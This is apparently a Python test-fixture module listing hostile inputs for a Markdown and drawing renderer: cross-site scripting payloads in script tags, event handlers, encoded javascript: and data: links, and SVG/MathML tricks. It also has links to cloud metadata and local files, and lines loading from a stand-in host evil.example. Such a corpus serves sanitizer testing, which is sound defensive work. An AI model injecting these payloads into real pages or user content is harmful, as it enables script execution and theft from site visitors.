"""What somebody hostile, or a careless paste, may put where Markdown or a drawing is expected."""

_SCRIPTS = r"""
<script>alert(1)</script>
<SCRIPT SRC=https://evil.example/x.js></SCRIPT>
<script\n>alert(1)</script\n>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script/x>alert(1)</script>
<<script>alert(1);//<</script>
<script src=data:text/javascript,alert(1)></script>
"><script>alert(1)</script>
'><script>alert(1)</script>
--><script>alert(1)</script>
]]><script>alert(1)</script>
<!--<script>alert(1)</script>-->
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<![CDATA[<script>alert(1)</script>]]>
<?xml version="1.0"?><script>alert(1)</script>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
</style><script>alert(1)</script>
</p></div></main><script>alert(1)</script>
<noscript><p title="</noscript><script>alert(1)</script>">
"""

_HANDLERS = r"""
<img src=x onerror=alert(1)>
<img src=x onerror="alert(1)"//
<img/src=x/onerror=alert(1)>
<img src="x` `<script>alert(1)</script>"` `>
<IMG SRC="javascript:alert(1)">
<IMG SRC=`javascript:alert(1)`>
<img srcset="x 1x" onload=alert(1)>
<image src=x onerror=alert(1)>
<svg onload=alert(1)>
<svg/onload=alert(1)//
<svg><script>alert(1)</script></svg>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><set attributeName=href to=javascript:alert(1)>
<svg><foreignObject><body onload=alert(1)></foreignObject></svg>
<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<math><maction actiontype=statusline xlink:href="javascript:alert(1)">x</maction></math>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
<math href="javascript:alert(1)">x</math>
<body onload=alert(1)>
<body background="javascript:alert(1)">
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe onload=alert(1)>
<frameset onload=alert(1)>
<object data="javascript:alert(1)"></object>
<object type="text/x-scriptlet" data="https://evil.example/x"></object>
<embed src="javascript:alert(1)">
<applet code="x"></applet>
<video><source onerror=alert(1)></video>
<video src=x onerror=alert(1)>
<audio src onloadstart=alert(1)>
<input autofocus onfocus=alert(1)>
<input type=image src=x onerror=alert(1)>
<select autofocus onfocus=alert(1)>
<textarea autofocus onfocus=alert(1)>
<button formaction="javascript:alert(1)">x</button>
<form action="javascript:alert(1)"><input type=submit></form>
<form id=x></form><button form=x formaction=javascript:alert(1)>x</button>
<details open ontoggle=alert(1)>
<marquee onstart=alert(1)>x</marquee>
<keygen autofocus onfocus=alert(1)>
<isindex action=javascript:alert(1) type=submit>
<div onmouseover=alert(1)>x</div>
<div onpointerenter='alert(1)'>x</div>
<p style="background:url(javascript:alert(1))">x</p>
<p style="animation-name:x" onanimationstart=alert(1)>x</p>
<div style="width:expression(alert(1))">x</div>
<div style="position:fixed;inset:0">cover</div>
<b onclick=alert(1)>x</b>
<x onclick=alert(1)>x</x>
<x contenteditable onblur=alert(1)>x</x>
<a onclick=alert(1)>x</a>
<a href=# onclick=alert(1)>x</a>
<a href="x" style="display:block">x</a>
<link rel=stylesheet href=https://evil.example/x.css>
<link rel=import href=data:text/html,x>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<base href="https://evil.example/">
<style>@import url(https://evil.example/x.css)</style>
<style>*{background:url(https://evil.example/)}</style>
<template><script>alert(1)</script></template>
<slot onslotchange=alert(1)>
<portal src=https://evil.example>
<xmp><script>alert(1)</script></xmp>
<listing><script>alert(1)</script></listing>
<plaintext><script>alert(1)</script>
<table background="javascript:alert(1)"><td>x</table>
<td onclick=alert(1)>x</td>
<bgsound src="javascript:alert(1)">
<layer src="https://evil.example/x"></layer>
<br size="&{alert(1)}">
<a name=x id=location href=x>x</a>
<form name=getElementById></form>
"""

_LINKS = r"""
[x](javascript:alert(1))
[x](JAVASCRIPT:alert(1))
[x](JaVaScRiPt:alert(1))
[x]( javascript:alert(1))
[x](<javascript:alert(1)>)
[x](<java script:alert(1)>)
[x](java\tscript:alert(1))
[x](\1javascript:alert(1))
[x](\0javascript:alert(1))
[x](javascript&colon;alert(1))
[x](javascript&#58;alert(1))
[x](javascript&#x3a;alert(1))
[x](&#106;avascript:alert(1))
[x](&#x6A;&#x61;vascript:alert(1))
[x](java&Tab;script:alert(1))
[x](java&NewLine;script:alert(1))
[x](%6aavascript:alert(1))
[x](javascript%3Aalert(1))
[x](javascript:%61lert(1))
[x](javascript://https://example.com/%0aalert(1))
[x](vbscript:msgbox(1))
[x](data:text/html,<script>alert(1)</script>)
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](data:image/svg+xml,<svg/onload=alert(1)>)
[x](file:///etc/passwd)
[x](blob:https://example.com/x)
[x](filesystem:https://example.com/x)
[x](view-source:https://example.com)
[x](ftp://example.com)
[x](http://169.254.169.254/latest/meta-data)
[x](http://example.com)
[x](//evil.example/x)
[x](/\evil.example/x)
[x](\\evil.example/x)
[x](/admin?delete=1)
[x](../../admin)
[x](?next=//evil.example)
[x](https:/\evil.example)
[x](https:evil.example)
[x](opening"onmouseover="alert(1))
[x](opening 'a' onmouseover=alert(1))
[x](https://example.com "onmouseover=alert(1)")
[x](https://example.com '"><script>alert(1)</script>')
[x](https://example.com/"onmouseover="alert(1))
[x](https://example.com/<script>alert(1)</script>)
[x](<https://example.com/"><script>alert(1)</script>>)
[<img src=x onerror=alert(1)>](https://example.com)
[x](mailto:a@b.example?subject=<script>alert(1)</script>)
<javascript:alert(1)>
<JAVASCRIPT:alert(1)>
<data:text/html,<script>alert(1)</script>>
<https://example.com/"onmouseover="alert(1)>
<https://example.com/'onmouseover='alert(1)>
<a@b.example"onmouseover="alert(1)>
[x][1]\n\n[1]: javascript:alert(1)
[x][1]\n\n[1]: <javascript:alert(1)> "t"
[x][1]\n\n[1]: https://example.com '"onmouseover="alert(1)'
[x]: javascript:alert(1)\n\n[x]
![x](javascript:alert(1))
![x](https://evil.example/pixel.gif)
![x](data:image/svg+xml,<svg onload=alert(1)>)
![" onerror="alert(1)](x)
![<script>alert(1)</script>](x)
![x](x "onerror=alert(1)")
[![x](javascript:alert(1))](javascript:alert(2))
"""

_OURS = r"""
[@techniques"><script>alert(1)</script>]
[@<script>alert(1)</script>]
[@techniques; @<img src=x onerror=alert(1)>]
[@techniques](javascript:alert(1))
Text {#x"onclick="alert(1)}
Text {#<script>alert(1)</script>}
Text {#x onclick=alert(1)}
## Title {#x'><script>alert(1)</script>}
- item {#"><img/src=x/onerror=alert(1)>}
`<script>alert(1)</script>`
``` "onmouseover="alert(1)\n<script>alert(1)</script>\n```
~~~ <script>alert(1)</script>\nx\n~~~
    <script>alert(1)</script>
> <script>alert(1)</script>
1. <img src=x onerror=alert(1)>
| <script>alert(1)</script> |\n|:-:"onclick=alert(1)|\n| x |
| a |\n|--:|\n| <img src=x onerror=alert(1)> |
# <script>alert(1)</script>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
\<script>alert(1)\</script>
*<script>alert(1)</script>*
**<b onclick=alert(1)>**
﻿<script>alert(1)</script>
＜script＞alert(1)＜/script＞
<\0script>alert(1)</script>
<scr\0ipt>alert(1)</scr\0ipt>
\r<script>alert(1)</script>
::: note | "><script>alert(1)</script>\n<img src=x onerror=alert(1)>\n:::
::: evidence "><script>alert(1)</script> | <b onclick=alert(1)>\nx\n:::
::: refer | [x](javascript:alert(1))\n[x](javascript:alert(1))\n:::
::: figure "><script>alert(1)</script> | <script>alert(1)</script>\na\n\nb\n:::
::: figure javascript:alert(1) | x {#"onclick=alert(1)}\na\n\nb\n:::
::: "><script>alert(1)</script> | x\ny\n:::
::: check\n<script>alert(1)</script>\n\n- [x] <img src=x onerror=alert(1)>\n    > [x](javascript:alert(1))\n:::
::: remember\n- <svg onload=alert(1)>\n:::
"""


_SIGNS = {r"\n": "\n", r"\t": "\t", r"\0": "\0", r"\1": "\x01", r"\r": "\u202e"}


def _read(text: str) -> list[str]:
    """One payload a row; the signs above stand for what cannot be written in one."""
    rows = [row for row in text.split("\n") if row]
    for sign, meant in _SIGNS.items():
        rows = [row.replace(sign, meant) for row in rows]
    return rows


MARKDOWN = [*_read(_SCRIPTS), *_read(_HANDLERS), *_read(_LINKS), *_read(_OURS)]
